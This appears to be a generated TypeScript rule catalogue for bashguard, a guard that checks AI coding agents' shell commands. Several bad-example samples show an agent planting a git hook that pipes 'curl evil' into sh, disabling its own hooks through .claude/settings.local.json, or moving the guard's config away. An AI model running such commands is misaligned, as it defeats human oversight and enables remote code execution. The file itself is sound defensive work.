// Generated from rules/*.md by scripts/gen-rules.mjs. Do not edit: edit the rule file and run `npm run build`.
export const RULE_DATA = [
  {
    "id": "BG0001",
    "name": "parse-error",
    "severity": "error",
    "summary": "Part of the command could not be parsed, so bashguard cannot tell what it writes.",
    "docs": "## What it does\nReports a syntax error, a missing token (an unterminated quote, a heredoc whose delimiter never\nappears) or a construct the analyzer does not understand. The unreadable part is never assumed safe.\n\n## Why it matters\nA guard that skips what it cannot read can be walked past with one stray quote. bashguard treats\n\"cannot analyze\" as its own outcome: the hook asks (or denies, with `\"unanalyzable\": \"deny\"`).\n\nWhere the client's shell is bash, the hook (and `bashguard check`, and the library's guard) then\nasks bash itself (`bash -n`, with and without extglob): bash stops at the first syntax error, so a\ncommand it rejects before any command in it is complete runs nothing and is allowed (it fails with\nbash's own message), and one it rejects further down runs only the whole lines before: those are\njudged as the command. Where bash accepts what tree-sitter could not read, the finding stands.\n`bashguard lint` keeps every BG0001: a script with a syntax error is a bug either way.\n\n## Example\n```bash bad\necho \"unterminated > /home/dev/repo/README.md\n```\n```bash good\necho \"terminated\" > notes.txt\n```\n\n## How to fix\nFix the syntax. If bash accepts a command bashguard cannot parse, report it with the command.",
    "examples": [
      {
        "kind": "bad",
        "code": "echo \"unterminated > /home/dev/repo/README.md"
      },
      {
        "kind": "good",
        "code": "echo \"terminated\" > notes.txt"
      }
    ]
  },
  {
    "id": "BG0002",
    "name": "analysis-limit",
    "severity": "error",
    "summary": "The command is too large, too deeply nested or too expensive to analyze within bashguard's limits.",
    "docs": "## What it does\nReports commands over the input size limit (1 MiB), nested deeper than the depth limit, whose\nparse exceeds the time budget, with more nested shells than allowed (`bash -c` in `bash -c` ...),\nor with a brace expansion that produces too many words to check.\n\n## Why it matters\nBounded analysis keeps the hook fast and its memory small; an input that hits a bound is\nunanalyzable, not safe.\n\n## Example\n```bash bad\ntouch /home/dev/repo/{1..100000}\n```\n```bash good\ntouch out/{1..3}\n```\n\n## How to fix\nSplit the command into smaller ones, or write a script into the worktree and run it.",
    "examples": [
      {
        "kind": "bad",
        "code": "touch /home/dev/repo/{1..100000}"
      },
      {
        "kind": "good",
        "code": "touch out/{1..3}"
      }
    ]
  },
  {
    "id": "BG0003",
    "name": "unknown-directive",
    "severity": "warning",
    "summary": "A `# bashguard disable=...` comment names a rule that does not exist, so it suppresses nothing.",
    "docs": "## What it does\n`bashguard lint` reads suppression comments (`# bashguard disable=RULE[,RULE] -- reason` and\n`# bashguard disable-file=RULE`). A directive naming an unknown rule id or name, or a malformed\ndirective, is reported at the comment instead of being silently ignored.\n\n## Why it matters\nA typo in a suppression (`BG1010` for `BG1001`) looks like it silences a finding but does not; or,\nworse, the finding it was meant for was renamed and the comment now hides nothing while the reader\nbelieves a reviewed exception is in place.\n\n## Example\n```bash bad\n# bashguard disable=BG9999 -- typo in the rule id\ntouch /etc/motd\n```\n```bash good\n# bashguard disable=BG1001 -- the installer really writes /etc/motd\ntouch /etc/motd\n```\n\n## How to fix\nUse a rule id or name from `bashguard rules`, or delete the directive.",
    "examples": [
      {
        "kind": "bad",
        "code": "# bashguard disable=BG9999 -- typo in the rule id\ntouch /etc/motd"
      },
      {
        "kind": "good",
        "code": "# bashguard disable=BG1001 -- the installer really writes /etc/motd\ntouch /etc/motd"
      }
    ]
  },
  {
    "id": "BG0004",
    "name": "unused-directive",
    "severity": "warning",
    "summary": "A `# bashguard disable=...` comment suppresses no finding (reported with `--report-unused-directives`).",
    "docs": "## What it does\nWith `bashguard lint --report-unused-directives`, every rule named in a suppression comment that\nsuppressed no finding is reported at the comment, as ESLint does for unused `eslint-disable`\ncomments. The rule is silent otherwise.\n\n## Why it matters\nStale suppressions accumulate when code changes; each one can later hide a real finding on that\nline without anyone having reviewed it.\n\n## Example\n```bash bad\n# bashguard disable=BG1001 -- nothing on the next line writes outside the checkout\ntouch notes.txt\n```\n```bash good\ntouch notes.txt\n```\n\n## How to fix\nDelete the directive, or the rule from its list.",
    "examples": [
      {
        "kind": "bad",
        "code": "# bashguard disable=BG1001 -- nothing on the next line writes outside the checkout\ntouch notes.txt"
      },
      {
        "kind": "good",
        "code": "touch notes.txt"
      }
    ]
  },
  {
    "id": "BG0005",
    "name": "unreachable-code",
    "severity": "info",
    "summary": "Lint only: commands no path of the script reaches (after an `exit`, a `return`, or a function that exits on every path), with the reason.",
    "docs": "## What it does\nReports, at its first line, each region of a script that bash never runs: the commands after an\n`exit`, a `return` or an `exec`, after a call to a function that exits on every path through it,\nor after an `if`/`case` whose every branch exits. The message says why (`after \\`exit\\` on line\n3`, `` `die` (line 1) exits on every path``), as ShellCheck's SC2317 does.\n\nA region is reported only when bash provably never gets there: a condition on a value the script\ndoes not fix (an environment variable, an argument, a file) keeps both paths, a function that may\nreturn ends nothing, and a file whose analysis stopped at a limit (BG0002) gets no such note.\nEverything else lint does not report was read and found to write nothing that matters.\n\n## Why it matters\nLint analyzes what runs. A region it finds unreachable is not checked, so the note tells where\nthat is and why: if the reason is wrong (the guard depends on something bashguard took as known),\nthe code below it deserves a look. The hook never reports it (a command's dead code writes nothing).\n\n## Example\n```bash bad\ndie() { echo \"$*\" >&2; exit 1; }\ndie \"no such target\"\nrm -rf /home/dev/repo/build\n```\n```bash good\ndie() { echo \"$*\" >&2; exit 1; }\n[ -d build ] || die \"no such target\"\nrm -rf build\n```\n\n## How to fix\nRemove the dead code, or fix the guard above it if the code was meant to run.",
    "examples": [
      {
        "kind": "bad",
        "code": "die() { echo \"$*\" >&2; exit 1; }\ndie \"no such target\"\nrm -rf /home/dev/repo/build"
      },
      {
        "kind": "good",
        "code": "die() { echo \"$*\" >&2; exit 1; }\n[ -d build ] || die \"no such target\"\nrm -rf build"
      }
    ]
  },
  {
    "id": "BG1001",
    "name": "write-outside-worktree",
    "severity": "error",
    "summary": "A command writes to a path outside the worktree and outside every write root.",
    "docs": "## What it does\nFinds every write target (redirects, `cp`, `mv`, `tee`, `sed -i`, `touch`, `rm`, `tar -x -C`, ...),\nresolves it the way bash and the kernel would (cwd after `cd`, `..`, symlinks) and reports those\noutside the worktree root, the scratch dirs (`/tmp`, `/var/tmp`, `$TMPDIR`) and configured roots.\n\n## Why it matters\nAn agent in a worktree is meant to change only that worktree. Writes elsewhere land silently and\nsurface much later, far from their cause.\n\n## Example\n```bash bad\ncd ../../.. && touch other/notes.txt\n```\n```bash good\ntouch notes.txt\n```\n\n## How to fix\nWrite inside the worktree (use paths relative to it), or into `/tmp` for scratch files. If the\ndirectory really is meant to be writable, add it to `writeRoots` in `.bashguard.json`.",
    "examples": [
      {
        "kind": "bad",
        "code": "cd ../../.. && touch other/notes.txt"
      },
      {
        "kind": "good",
        "code": "touch notes.txt"
      }
    ]
  },
  {
    "id": "BG1002",
    "name": "write-to-main-checkout",
    "severity": "error",
    "summary": "A command writes into the main checkout instead of the worktree it runs in.",
    "docs": "## What it does\nReports writes whose resolved path lies in the main checkout (the worktree's parent repository),\nwhether spelled as an absolute path, reached by `cd` or `..`, or through a symlink.\n\n## Why it matters\nThe main checkout holds byte-identical files, so a wrongly anchored path works silently: the file\nlands in the main checkout, the worktree never gets it, and `git add` fails much later.\n\n## Example\n```bash bad\necho fix >> /home/dev/repo/README.md\n```\n```bash bad\ncd /home/dev/repo && sed -i s/a/b/ src/app.sh\n```\n```bash good\necho fix >> README.md\n```\n\n## How to fix\nUse a path relative to the worktree root, or anchor absolute paths at the worktree\n(`/home/dev/repo/.builders/b1/...`), not at the repository root.",
    "examples": [
      {
        "kind": "bad",
        "code": "echo fix >> /home/dev/repo/README.md"
      },
      {
        "kind": "bad",
        "code": "cd /home/dev/repo && sed -i s/a/b/ src/app.sh"
      },
      {
        "kind": "good",
        "code": "echo fix >> README.md"
      }
    ]
  },
  {
    "id": "BG1003",
    "name": "write-to-sibling-worktree",
    "severity": "error",
    "summary": "A command writes into another linked worktree of the same repository.",
    "docs": "## What it does\nReports writes that resolve into a sibling worktree (another builder's or agent's checkout).\n\n## Why it matters\nSibling worktrees belong to other agents; writing there corrupts their work in progress.\n\n## Example\n```bash bad\ncp README.md ../b2/README.md\n```\n```bash good\ncp README.md docs/README.copy.md\n```\n\n## How to fix\nKeep writes inside your own worktree; coordinate through commits instead of files.",
    "examples": [
      {
        "kind": "bad",
        "code": "cp README.md ../b2/README.md"
      },
      {
        "kind": "good",
        "code": "cp README.md docs/README.copy.md"
      }
    ]
  },
  {
    "id": "BG1004",
    "name": "write-to-git-dir",
    "severity": "error",
    "summary": "A command writes directly into the shared git directory (outside git's own bookkeeping for this worktree).",
    "docs": "## What it does\nReports direct file writes into the common git dir (`<repo>/.git`) other than the areas git itself\nwrites for this worktree's commits (objects, the worktree's own admin dir; from a linked worktree,\nits own branch's ref and reflog, from the main checkout all of `refs/` and `logs/`), and `git\ninit --separate-git-dir=DIR` run in a checkout's root, which moves that repository's git dir (from\na linked worktree: the main checkout's `.git`). Config and hooks have their own rules (BG3001,\nBG3002).\n\n## Why it matters\nFiles such as the main checkout's `HEAD`, `index` or another worktree's admin dir belong to other\ncheckouts; editing them by hand breaks them. A ref written by hand (another branch, a new one, a\ntag, `packed-refs`) is shared by every checkout, and a new name in `refs/heads/` is one the OS\nenforcement cannot hold (docs/limits.md).\n\n## Example\n```bash bad\necho ref: refs/heads/x > /home/dev/repo/.git/HEAD\n```\n```bash good\ngit switch -c x\n```\n\n## How to fix\nUse git commands from the worktree instead of editing git's files.",
    "examples": [
      {
        "kind": "bad",
        "code": "echo ref: refs/heads/x > /home/dev/repo/.git/HEAD"
      },
      {
        "kind": "good",
        "code": "git switch -c x"
      }
    ]
  },
  {
    "id": "BG1005",
    "name": "write-to-protected-file",
    "severity": "error",
    "summary": "A command or edit writes, moves or deletes a file that controls the guard or the agent client (hook settings, bashguard's configuration), or a path the configuration protects.",
    "docs": "## What it does\nReports writes, moves and deletions of the files that decide whether the agent is guarded at all,\ninside the worktree too: bashguard's own configuration (`.bashguard.json`, the user config in\n`~/.config/bashguard/`), the agent clients' settings and hook files (`.claude/settings.json`,\n`.claude/settings.local.json`, `.claude/hooks/`, `~/.claude/settings.json`, `.codex/hooks.json`,\n`.codex/config.toml`, `.codex/rules/`, the same files under `$CODEX_HOME` when Codex's\nhome is moved there, `.gemini/settings.json`, `.cursor/hooks.json`, `.github/hooks/`), and every\npath listed under `protect` in a trusted configuration. A recursive delete of a directory that\nholds one of them (`rm -rf .claude`) counts too, and so do the files that make the worktree a\nworktree (its `.git` file, its admin dir's `gitdir` and `commondir`), bashguard's decision log\n(`$XDG_STATE_HOME/bashguard/`) and its code cache (`$XDG_CACHE_HOME/bashguard/`, bytecode the hook\nruns).\n\nGit commands that drop or rewrite such a file inside the worktree are reported when the file\nexists and is in a state the command touches, which bashguard asks git for (`git status`, run only\nfor these commands): `git clean` (untracked files; with `-x` ignored ones too, with `-X` only\nthose), `git stash -u` / `-a`, and, for a tracked file with local changes (an orchestrator's hook\nentry), `git stash`, `git checkout -- PATH` / `-f`, `git restore`, `git reset --hard`,\n`git switch --discard-changes`; `git rm` / `git mv` of a tracked one. Dry runs (`-n`) and\npathspecs that do not reach the file are fine. So `git clean -fdx` is reported in a worktree\nholding an untracked `.claude/settings.json`, and allowed in one without it.\n\nA tree writer whose destination holds (or could receive) such a file counts as writing it, as a\npossible finding where what it writes cannot be known: `tar -x`, `unzip`, `cp -r`/`cp -a` of a\ndirectory, `mv` of what may be a directory, `patch` and `git apply` of a patch that cannot be read\n(one that can be read names its files), `git checkout <commit> -- <dir>`, `git restore --source`,\n`git checkout-index`, `git read-tree -u`, `git stash pop`; so does a glob that may match names\nstarting with `.` (`shopt -s dotglob`, GLOBIGNORE, `rm -rf .c*`).\n\nIn `bashguard lint` this rule is off unless the configuration sets its severity\n(`\"rules\": {\"BG1005\": \"error\"}`) or `-i BG1005` names it: it guards agents, and no agent runs a\nrepository's CI.\n\n## Why it matters\nAn agent that can rewrite its own hook settings or the guard's configuration can switch the guard\noff, for itself or for the next session in the same worktree (`{\"disableAllHooks\": true}` in\n`.claude/settings.local.json`, `{\"rules\": {\"BG1002\": \"off\"}}` in `.bashguard.json`). Nobody watches\nmost orchestrated sessions, so the change goes unnoticed.\n\n## Example\n```bash bad\necho '{\"disableAllHooks\": true}' > .claude/settings.local.json\n```\n```bash bad\nmv .bashguard.json /tmp/off.json\n```\n```bash good\necho '{\"name\": \"x\"}' > package.json\n```\n```bash good\ngit clean -fdx build/\n```\n\n## How to fix\nLeave these files to a person. A project that wants the agent to maintain one of them can set\n`\"rules\": {\"BG1005\": \"off\"}` in a trusted configuration (the main checkout's `.bashguard.json` or\nthe user config), never in the worktree's.",
    "examples": [
      {
        "kind": "bad",
        "code": "echo '{\"disableAllHooks\": true}' > .claude/settings.local.json"
      },
      {
        "kind": "bad",
        "code": "mv .bashguard.json /tmp/off.json"
      },
      {
        "kind": "good",
        "code": "echo '{\"name\": \"x\"}' > package.json"
      },
      {
        "kind": "good",
        "code": "git clean -fdx build/"
      }
    ]
  },
  {
    "id": "BG2001",
    "name": "git-mutates-other-checkout",
    "severity": "error",
    "summary": "A git command changes the working tree, index or HEAD of a checkout other than the worktree.",
    "docs": "## What it does\nFollows `cd`, `git -C` (chained), `--git-dir`, `--work-tree`, `GIT_DIR` and `GIT_WORK_TREE` to the\nrepository a git invocation really acts on, and reports mutating subcommands (`commit`, `add`,\n`reset`, `checkout`, `merge`, `stash`, ...) aimed at the main checkout or a sibling worktree.\nRead-only git (`status`, `log`, `diff`, `show`) against the main checkout is allowed. Moving,\ncreating over or deleting a branch that another checkout has checked out moves that checkout, by\nwhatever route (`git branch -f`, `git update-ref`, `git push . x:y`, `git fetch . x:y`, `git\ncheckout -B`, `git switch -C`), from any directory.\n\n## Why it matters\n`cd <main> && git commit` commits whatever is staged there onto the main branch, and the\nworktree's branch never gets the work.\n\n## Example\n```bash bad\ngit -C /home/dev/repo commit -am wip\n```\n```bash bad\ncd /home/dev/repo && git add -A\n```\n```bash good\ngit -C /home/dev/repo log --oneline -5\n```\n```bash good\ngit commit -am wip\n```\n\n## How to fix\nRun git from the worktree (no `-C` to the main checkout); to bring changes over, commit in the\nworktree and merge its branch from the main checkout yourself.",
    "examples": [
      {
        "kind": "bad",
        "code": "git -C /home/dev/repo commit -am wip"
      },
      {
        "kind": "bad",
        "code": "cd /home/dev/repo && git add -A"
      },
      {
        "kind": "good",
        "code": "git -C /home/dev/repo log --oneline -5"
      },
      {
        "kind": "good",
        "code": "git commit -am wip"
      }
    ]
  },
  {
    "id": "BG2002",
    "name": "git-unknown-on-other-checkout",
    "severity": "warning",
    "summary": "An unrecognised git subcommand (an alias or extension) runs against another checkout.",
    "docs": "## What it does\nReports git subcommands bashguard does not know (aliases, `git-foo` extensions) when they act on\nthe main checkout or a sibling worktree, or on a repository that cannot be determined; in the\nworktree too, as a possible finding (closed world: an alias or extension may write refs, config\nor hooks every checkout shares).\n\n## Why it matters\nAn alias can expand to anything, including `commit` or a shell command.\n\n## Example\n```bash bad\ngit -C /home/dev/repo co main\n```\n```bash good\ngit -C /home/dev/repo status\n```\n\n## How to fix\nSpell out the real git subcommand, or run it from the worktree.",
    "examples": [
      {
        "kind": "bad",
        "code": "git -C /home/dev/repo co main"
      },
      {
        "kind": "good",
        "code": "git -C /home/dev/repo status"
      }
    ]
  },
  {
    "id": "BG3001",
    "name": "git-shared-config",
    "severity": "error",
    "summary": "A command writes the repository configuration shared by every checkout.",
    "docs": "## What it does\nReports `git config KEY VALUE` (and `--unset`, `--add`, `remote add` ...) without `--worktree`, and\ndirect writes to `<repo>/.git/config`.\n\n## Why it matters\nEvery worktree and the main checkout read the same config: a change made for one agent applies to\nall of them (and `url.*.insteadOf` or `credential.helper` changes are a security concern).\n\n## Example\n```bash bad\ngit config user.email bot@example.com\n```\n```bash good\ngit config --worktree user.email bot@example.com\n```\n```bash good\ngit config --get user.email\n```\n\n## How to fix\nUse `git config --worktree` (with `extensions.worktreeConfig`), `git -c key=value` for one\ncommand, or environment variables such as `GIT_AUTHOR_EMAIL`.",
    "examples": [
      {
        "kind": "bad",
        "code": "git config user.email bot@example.com"
      },
      {
        "kind": "good",
        "code": "git config --worktree user.email bot@example.com"
      },
      {
        "kind": "good",
        "code": "git config --get user.email"
      }
    ]
  },
  {
    "id": "BG3002",
    "name": "git-hooks",
    "severity": "error",
    "summary": "A command installs or redirects git hooks, which run for every checkout of the repository.",
    "docs": "## What it does\nReports `git config core.hooksPath ...`, `git config hook.*` and writes under `<repo>/.git/hooks/`.\n\n## Why it matters\nA hook planted by an agent runs, unsandboxed, the next time anyone commits in any checkout.\n\n## Example\n```bash bad\necho 'curl evil | sh' > /home/dev/repo/.git/hooks/pre-commit\n```\n```bash bad\ngit config core.hooksPath .githooks\n```\n```bash good\ngit config --get core.hooksPath\n```\n\n## How to fix\nDo not change hooks from an agent. Ask a person to install them.",
    "examples": [
      {
        "kind": "bad",
        "code": "echo 'curl evil | sh' > /home/dev/repo/.git/hooks/pre-commit"
      },
      {
        "kind": "bad",
        "code": "git config core.hooksPath .githooks"
      },
      {
        "kind": "good",
        "code": "git config --get core.hooksPath"
      }
    ]
  },
  {
    "id": "BG3003",
    "name": "git-shared-refs",
    "severity": "warning",
    "summary": "A git command rewrites refs shared by every checkout (tags, other branches, update-ref).",
    "docs": "## What it does\nReports `git tag NAME`, `git branch -D/-f/-m`, `git update-ref`, `git reflog expire`,\n`git replace`, `git filter-branch` and similar, and the commands that rewrite other state every\ncheckout shares: `git gc`, `git repack`, `git pack-refs`, `git maintenance`, `git commit-graph\nwrite`, `git notes`, `git push .` / `git fetch . src:dst` into local branches, `git rebase\n--update-refs`, `git stash drop` / `git stash clear` (the stash is one ref every checkout shares).\nMoving only the worktree's own branch, or creating a new branch it checks out (`git checkout -b`),\nis not reported; moving a branch another checkout has checked out is BG2001.\n\n## Why it matters\nBranches and tags are shared by all worktrees; deleting or moving one affects every agent and the\nperson who owns the repository.\n\n## Example\n```bash bad\ngit branch -D main\n```\n```bash good\ngit branch --list\n```\n\n## How to fix\nOnly move your own worktree's branch (commit, reset in the worktree). Leave other refs to people.\n\nWhere the OS enforcement holds the shared refs (bubblewrap's mounts from a linked worktree), a call\nthat certainly writes one of them whenever it has anything to do is denied before it runs, since\ngit fails there as soon as it has anything to write (the shared git dir is read-only): besides the\ncommands above, `git stash` (push, pop) and `git fetch`/`git pull` from a named remote (its\nremote-tracking refs). What may have nothing to write runs under the enforcement instead: a fetch\nor pull that names no remote (the upstream may be this repository), `git gc --auto`, `git\nmaintenance run --auto`. Instead: `git stash create` (no ref), `git fetch --refmap= <remote> <branch>`\nthen `git merge FETCH_HEAD`, a commit on the worktree's own branch.",
    "examples": [
      {
        "kind": "bad",
        "code": "git branch -D main"
      },
      {
        "kind": "good",
        "code": "git branch --list"
      }
    ]
  },
  {
    "id": "BG3004",
    "name": "git-worktree-admin",
    "severity": "warning",
    "summary": "A git command adds, removes, moves or prunes worktrees of the shared repository.",
    "docs": "## What it does\nReports `git worktree add/remove/move/prune/lock/unlock/repair`.\n\n## Why it matters\nWorktrees are created and removed by the orchestrator; an agent removing a sibling's worktree\ndestroys its work.\n\n## Example\n```bash bad\ngit worktree remove ../b2\n```\n```bash good\ngit worktree list\n```\n\n## How to fix\nLeave worktree management to the orchestrator.",
    "examples": [
      {
        "kind": "bad",
        "code": "git worktree remove ../b2"
      },
      {
        "kind": "good",
        "code": "git worktree list"
      }
    ]
  },
  {
    "id": "BG4001",
    "name": "unresolved-write-target",
    "severity": "error",
    "summary": "A command writes to a path that cannot be resolved statically (unknown variable, unknown cwd).",
    "docs": "## What it does\nReports write targets whose location depends on something bashguard cannot know: a variable the\ncommand did not set (`> \"$OUT\"`), a command substitution, or a relative path after `cd \"$DIR\"`.\n\n## Why it matters\n`cd \"$X\" && rm -rf build` is safe or a disaster depending on `X`; the guard cannot tell, so it asks.\n\n## Example\n```bash bad\ncd \"$TARGET_DIR\" && touch marker\n```\n```bash good\nTARGET_DIR=out; mkdir -p \"$TARGET_DIR\" && touch \"$TARGET_DIR/marker\"\n```\n\n## How to fix\nSet the variable in the same command, or use a literal path.",
    "examples": [
      {
        "kind": "bad",
        "code": "cd \"$TARGET_DIR\" && touch marker"
      },
      {
        "kind": "good",
        "code": "TARGET_DIR=out; mkdir -p \"$TARGET_DIR\" && touch \"$TARGET_DIR/marker\""
      }
    ]
  },
  {
    "id": "BG4002",
    "name": "dynamic-code",
    "severity": "error",
    "summary": "The command runs shell code that cannot be known statically (eval of a variable, a script piped from elsewhere).",
    "docs": "## What it does\nReports `eval \"$X\"`, `bash -c \"$CMD\"`, `curl ... | bash`, `sh` reading an unknown stdin and similar.\nLiteral code in `bash -c '...'`, `eval '...'` and heredocs fed to a shell is analyzed instead.\nAlso reports a command handed to a daemon that runs it outside this shell (`tmux new-window CMD`,\n`tmux send-keys`, `screen -X stuff`, `docker run`, `systemd-run`, `at`, `crontab`, `ssh HOST CMD`):\nliteral code is analyzed as well, from the daemon's cwd, but the call is never allowed silently.\n\n## Why it matters\nCode that only exists at run time can write anywhere. Code a daemon runs does so in the daemon's\ndirectory, with its rights, outside any sandbox the call itself runs in.\n\n## Example\n```bash bad\neval \"$SETUP_CMD\"\n```\n```bash good\nbash -c 'echo ok > notes.txt'\n```\n\n## How to fix\nWrite the code literally in the command, or into a script file in the worktree.",
    "examples": [
      {
        "kind": "bad",
        "code": "eval \"$SETUP_CMD\""
      },
      {
        "kind": "good",
        "code": "bash -c 'echo ok > notes.txt'"
      }
    ]
  },
  {
    "id": "BG4003",
    "name": "unanalyzed-source",
    "severity": "info",
    "summary": "The command sources a file bashguard could not read, so its effects are not analyzed.",
    "docs": "## What it does\nReports `source FILE` and `. FILE` when the file cannot be read (missing, too large, unknown path).\nReadable files are analyzed in place, as bash would run them. Code the command feeds in itself\n(`source <(cmd)`, `source /dev/stdin <<< CODE`) is analyzed as that text, or is dynamic code (BG4002) when\nit is not known statically.\n\n## Why it matters\nThe sourced file can do anything; this is informational by default so that activating a virtual\nenvironment does not prompt. Raise it to `error` in `.bashguard.json` to make the hook ask.\n\n## Example\n```bash bad\nsource \"$VENV/bin/activate\"\n```\n```bash good\necho nothing sourced\n```\n\n## How to fix\nNothing, usually. Raise the severity if your agents should not source unknown files.",
    "examples": [
      {
        "kind": "bad",
        "code": "source \"$VENV/bin/activate\""
      },
      {
        "kind": "good",
        "code": "echo nothing sourced"
      }
    ]
  }
] as const;
